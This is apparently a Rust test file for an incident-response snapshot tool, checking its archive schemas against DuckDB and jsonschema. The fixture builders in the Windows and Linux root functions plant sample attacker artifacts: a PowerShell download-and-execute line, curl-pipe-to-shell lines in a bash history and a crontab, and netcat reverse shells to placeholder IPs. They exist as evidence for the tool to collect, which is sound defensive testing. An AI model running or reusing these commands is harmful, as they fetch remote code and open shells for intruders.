//! The archive's documented schema, checked against real output by the clients analysts use:
//! the committed `schema/` is what the types generate; every archive carries its schemas as
//! hashed members; and `scripts/duckdb-smoke.sh` (Python jsonschema, DuckDB `read_json_auto`,
//! `zipfile`, `unzip -t`) accepts a live archive and archives of offline Windows and Linux
//! roots built from real fixture files. The Python part is skipped, loudly, when PyPI cannot
//! be reached.

use crate::harness::{Archive, RootBuilder, collect, fixture, irsnap};
use serde_json::Value;
use sha2::Digest;
use std::path::{Path, PathBuf};
use std::process::Command;

const NAMES: &[&str] = &[
    "processes",
    "network",
    "temp_scripts",
    "execution_events",
    "powershell_logs",
    "shell_history",
    "scheduled_tasks",
    "preload",
    "audit_logs",
    "auth_logs",
    "journal",
    "timeline",
    "findings",
    "manifest",
];

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn sha_hex(data: &[u8]) -> String {
    sha2::Sha256::digest(data)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn json_files(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".schema.json"))
        .collect();
    v.sort();
    v
}

#[test]
fn committed_schemas_are_fresh() {
    let out = tempfile::tempdir().unwrap();
    let run = irsnap(&["schema", "--out", out.path().to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let committed = repo().join("schema");
    let fresh = json_files(out.path());
    let mut want: Vec<String> = NAMES.iter().map(|n| format!("{n}.schema.json")).collect();
    want.sort();
    assert_eq!(fresh, want);
    let stale = "schema/ is stale: regenerate it with `cargo run -- schema --out schema/`";
    assert_eq!(json_files(&committed), fresh, "{stale}");
    for name in &fresh {
        let a: Value =
            serde_json::from_slice(&std::fs::read(out.path().join(name)).unwrap()).unwrap();
        let b: Value =
            serde_json::from_slice(&std::fs::read(committed.join(name)).unwrap()).unwrap();
        assert_eq!(a, b, "{name}: {stale}");
    }
}

#[test]
fn schema_command_lists_and_prints() {
    let list = irsnap(&["schema"]);
    assert_eq!(list.code, 0);
    for n in NAMES {
        assert!(list.stdout.contains(n), "{n} not listed: {}", list.stdout);
    }
    let one = irsnap(&["schema", "scheduled_tasks"]);
    assert_eq!(one.code, 0);
    let v: Value = serde_json::from_str(&one.stdout).unwrap();
    assert_eq!(v["$schema"], "https://json-schema.org/draft/2020-12/schema");
    assert_eq!(v["x-irsnap-member"], "records/scheduled_tasks.jsonl");
    // The serde attributes are reflected: `rename` (trigger `type`), `skip_serializing_if`
    // (optional, not required), snake_case enum values.
    let defs = &v["$defs"];
    assert!(defs["ScheduledTrigger"]["properties"]["type"].is_object());
    let required = v["required"].as_array().unwrap();
    assert!(required.contains(&Value::from("kind")));
    assert!(!required.contains(&Value::from("sha256")));
    assert!(one.stdout.contains("\"systemd_timer\""));
    let bad = irsnap(&["schema", "nope"]);
    assert_eq!(bad.code, 1);
    assert!(bad.stderr.contains("no schema named"), "{}", bad.stderr);
}

/// Every archive carries its schemas as members listed and hashed in the manifest, identical
/// to what `irsnap schema NAME` prints.
fn assert_carries_schemas(a: &mut Archive) {
    let manifest = a.manifest();
    assert_eq!(manifest["schema_version"], 1);
    let members = manifest["members"].as_array().unwrap();
    for n in NAMES {
        let member = format!("schema/{n}.schema.json");
        let data = a.member(&member);
        let entry = members
            .iter()
            .find(|m| m["path"] == member.as_str())
            .unwrap_or_else(|| panic!("{member} not in the manifest"));
        assert_eq!(entry["sha256"], sha_hex(&data), "{member}");
        assert_eq!(entry["size"], data.len() as u64, "{member}");
        let printed = irsnap(&["schema", n]);
        assert_eq!(printed.stdout.as_bytes(), &data[..], "{member}");
    }
}

fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut v = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            v.extend(files_under(&p));
        } else {
            v.push(p);
        }
    }
    v
}

const LOGS: &str = "Windows/System32/winevt/Logs";

/// A Windows system drive from real files: a task tree, Sysmon/Security/TaskScheduler and
/// both PowerShell logs, a PSReadLine history and a staged script.
fn windows_root() -> RootBuilder {
    let root = RootBuilder::new();
    let museum = fixture("tasks/dfir-artifact-museum/Win10/APTSimulatorVM");
    for f in files_under(&museum) {
        let rel = f.strip_prefix(&museum).unwrap();
        root.copy(&format!("Windows/System32/Tasks/{}", rel.display()), &f);
    }
    root.copy(
        "Windows/System32/Tasks/T1053_05_SCTASK_HIDDEN_ATTRIB.xml",
        &fixture("tasks/atomic-red-team/T1053_05_SCTASK_HIDDEN_ATTRIB.xml"),
    );
    for (name, rel) in [
        (
            "Microsoft-Windows-Sysmon%4Operational.evtx",
            "evtx/sysmon/museum-win10-aptsimulator/Microsoft-Windows-Sysmon%4Operational.evtx",
        ),
        (
            "Security.evtx",
            "evtx/security/museum-server2022-aptsimulator/Security.evtx",
        ),
        (
            "Microsoft-Windows-TaskScheduler%4Operational.evtx",
            "evtx/taskscheduler/museum-win2012r2-stolenszechuan/Microsoft-Windows-TaskScheduler%4Operational.evtx",
        ),
        (
            "Microsoft-Windows-PowerShell%4Operational.evtx",
            "evtx/powershell/museum-win10-aptsimulator/Microsoft-Windows-PowerShell%4Operational.evtx",
        ),
        (
            "Windows PowerShell.evtx",
            "evtx/powershell/museum-win10-aptsimulator/Windows PowerShell.evtx",
        ),
    ] {
        root.copy(&format!("{LOGS}/{name}"), &fixture(rel));
    }
    root.copy(
        "Users/alice/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt",
        &fixture("history/dfir-artifact-museum/BelkasoftCTF_InsiderThreat/ConsoleHost_history.txt"),
    );
    root.write(
        "Users/alice/AppData/Local/Temp/stage.ps1",
        b"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\r\n",
    );
    root
}

/// A Linux system root: the fixture's /etc and systemd units, cron, at, histories, a staged
/// script.
#[cfg(unix)]
fn linux_root() -> RootBuilder {
    use std::os::unix::fs::{PermissionsExt, symlink};
    let root = RootBuilder::new();
    let lx = fixture("linux");
    for f in files_under(&lx.join("etc")) {
        let rel = f.strip_prefix(&lx).unwrap();
        root.copy(rel.to_str().unwrap(), &f);
    }
    for f in files_under(&lx.join("lib/systemd/system")) {
        let name = f.file_name().unwrap().to_str().unwrap();
        root.copy(&format!("usr/lib/systemd/system/{name}"), &f);
    }
    symlink("usr/lib", root.path().join("lib")).unwrap();
    root.write(
        "etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/zsh\n",
    )
    .write(
        "root/.bash_history",
        b"#1700000000\ncurl -s http://198.51.100.7/x.sh | sh\nid\n",
    )
    .write(
        "home/alice/.zsh_history",
        b": 1700000100:5;nc -e /bin/sh 203.0.113.7 4444\n",
    )
    .write(
        "var/spool/cron/crontabs/root",
        b"* * * * * /tmp/evil.sh\n@reboot curl -fsSL http://198.51.100.7/i.sh | sh\n",
    )
    .write(
        "var/spool/cron/atjobs/a0000101c3a1b2",
        b"#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd /root || {\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER2a5c1e3f'\nid\nmarcinDELIMITER2a5c1e3f\n",
    )
    .write("tmp/evil.sh", b"#!/bin/sh\nnc -e /bin/sh 198.51.100.7 4444\n");
    std::fs::set_permissions(
        root.path().join("tmp/evil.sh"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    root
}

/// Every collector with its defaults, but the live temp-dir copy kept small: the test is
/// about the shape of the records, not the bytes of whatever sits in this machine's /tmp.
const LIVE_PROFILE: &str = "name = \"schema-live\"\ndescription = \"test\"\n\
[collectors.processes]\nhash_images = true\n[collectors.network]\n[collectors.scheduled_tasks]\n\
[collectors.temp_scripts]\nmax_file_copy = \"1 MiB\"\nmax_total_copy = \"16 MiB\"\n\
[collectors.shell_history]\n[collectors.execution_events]\n[collectors.powershell_logs]\n";

fn collect_into(out: &Path, extra: &[&str]) -> Archive {
    let (run, archive) = collect(out, extra);
    assert!(
        run.code == 0 || run.code == 2,
        "collect {extra:?} exited {}: {}",
        run.code,
        run.stderr
    );
    archive.unwrap_or_else(|| panic!("no archive: {}", run.stderr))
}

/// `[label][i] == [value, count]` rows of one DuckDB query answer.
fn answer<'a>(facts: &'a Value, member: &str, label: &str) -> Vec<(&'a str, u64)> {
    facts[member]["queries"][label]
        .as_array()
        .unwrap_or_else(|| panic!("{member}: no answer to '{label}': {facts}"))
        .iter()
        .map(|row| {
            (
                row[0].as_str().unwrap_or("null"),
                row[1].as_str().unwrap().parse().unwrap(),
            )
        })
        .collect()
}

fn has(rows: &[(&str, u64)], value: &str) -> bool {
    rows.iter().any(|(v, n)| *v == value && *n > 0)
}

#[cfg(unix)]
#[test]
fn real_clients_accept_live_and_offline_archives() {
    let out = tempfile::tempdir().unwrap();
    let profile = out.path().join("live.toml");
    std::fs::write(&profile, LIVE_PROFILE).unwrap();

    let mut live = collect_into(
        &out.path().join("live"),
        &["--profile", profile.to_str().unwrap(), "--deadline", "120s"],
    );
    let win = windows_root();
    let mut windows = collect_into(
        &out.path().join("win"),
        &["--root", win.path().to_str().unwrap()],
    );
    let lx = linux_root();
    let mut linux = collect_into(
        &out.path().join("lx"),
        &["--root", lx.path().to_str().unwrap()],
    );
    for a in [&mut live, &mut windows, &mut linux] {
        assert_carries_schemas(a);
    }

    let facts_path = out.path().join("facts.json");
    let started = std::time::Instant::now();
    let run = Command::new("bash")
        .arg(repo().join("scripts/duckdb-smoke.sh"))
        .arg("--json-out")
        .arg(&facts_path)
        .args([&live.path, &windows.path, &linux.path])
        .output()
        .expect("run scripts/duckdb-smoke.sh");
    let stdout = String::from_utf8_lossy(&run.stdout);
    let stderr = String::from_utf8_lossy(&run.stderr);
    if stdout.contains("SKIPPED: duckdb-smoke") {
        println!("SKIPPED: real-client checks (duckdb/jsonschema not installable): {stdout}");
        return;
    }
    println!("{stdout}");
    println!("duckdb-smoke took {:?}", started.elapsed());
    assert!(run.status.success(), "{stdout}\n{stderr}");

    let facts: Value = serde_json::from_slice(&std::fs::read(&facts_path).unwrap()).unwrap();
    assert_eq!(facts["failures"], Value::Array(vec![]));
    let per = |a: &Archive| facts["archives"][a.path.to_str().unwrap()].clone();
    for a in [&live, &windows, &linux] {
        let f = per(a);
        assert!(
            f["testzip"].is_null(),
            "{}: testzip {}",
            a.path.display(),
            f
        );
        assert!(f["unzip_t"] == 0 || f["unzip_t"] == "skipped", "{f}");
        let schemas: Vec<&str> = f["schemas"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s.as_str().unwrap())
            .collect();
        let mut want = NAMES.to_vec();
        want.sort();
        assert_eq!(schemas, want);
        assert_eq!(f["manifest.json"]["invalid"], 0);
        let mut records = 0;
        for (member, m) in f.as_object().unwrap() {
            if !member.ends_with(".jsonl") {
                continue;
            }
            // Record files always have a schema; timeline/findings are loaded, and validated
            // once their schema ships.
            if member.starts_with("records/") || m.get("invalid").is_some() {
                assert_eq!(m["invalid"], 0, "{member}: {m}");
                assert_eq!(m["undocumented"], 0, "{member}: {m}");
            }
            let lines = m["lines"].as_u64().unwrap();
            if lines > 0 {
                assert_eq!(m["duckdb_rows"], lines, "{member}: {m}");
                records += 1;
            }
        }
        assert!(
            records >= 2,
            "{}: too few record files loaded",
            a.path.display()
        );
    }

    // The analyst queries, answered by DuckDB over the archive's own JSON lines.
    let live_f = per(&live);
    let by_user = answer(&live_f, "records/processes.jsonl", "processes by user");
    let total: u64 = by_user.iter().map(|(_, n)| n).sum();
    assert_eq!(total, live_f["records/processes.jsonl"]["lines"]);

    let win_f = per(&windows);
    let actions = answer(
        &win_f,
        "records/scheduled_tasks.jsonl",
        "task actions by kind",
    );
    assert!(has(&actions, "exec"), "{actions:?}");
    let events = answer(&win_f, "records/execution_events.jsonl", "events by kind");
    assert!(has(&events, "sysmon_process_create"), "{events:?}");
    assert!(has(&events, "security_process_create"), "{events:?}");
    let ps = answer(
        &win_f,
        "records/powershell_logs.jsonl",
        "powershell records by type",
    );
    for t in ["event", "script_block", "psreadline", "log_file"] {
        assert!(has(&ps, t), "{t}: {ps:?}");
    }
    let staged = answer(&win_f, "records/temp_scripts.jsonl", "staged files by type");
    assert!(has(&staged, "powershell"), "{staged:?}");

    let lx_f = per(&linux);
    let actions = answer(
        &lx_f,
        "records/scheduled_tasks.jsonl",
        "task actions by kind",
    );
    assert!(has(&actions, "shell"), "{actions:?}");
    let kinds = answer(&lx_f, "records/scheduled_tasks.jsonl", "tasks by kind");
    for k in ["cron", "at", "systemd_timer"] {
        assert!(has(&kinds, k), "{k}: {kinds:?}");
    }
    let shells = answer(&lx_f, "records/shell_history.jsonl", "history by shell");
    assert!(has(&shells, "bash") && has(&shells, "zsh"), "{shells:?}");
}
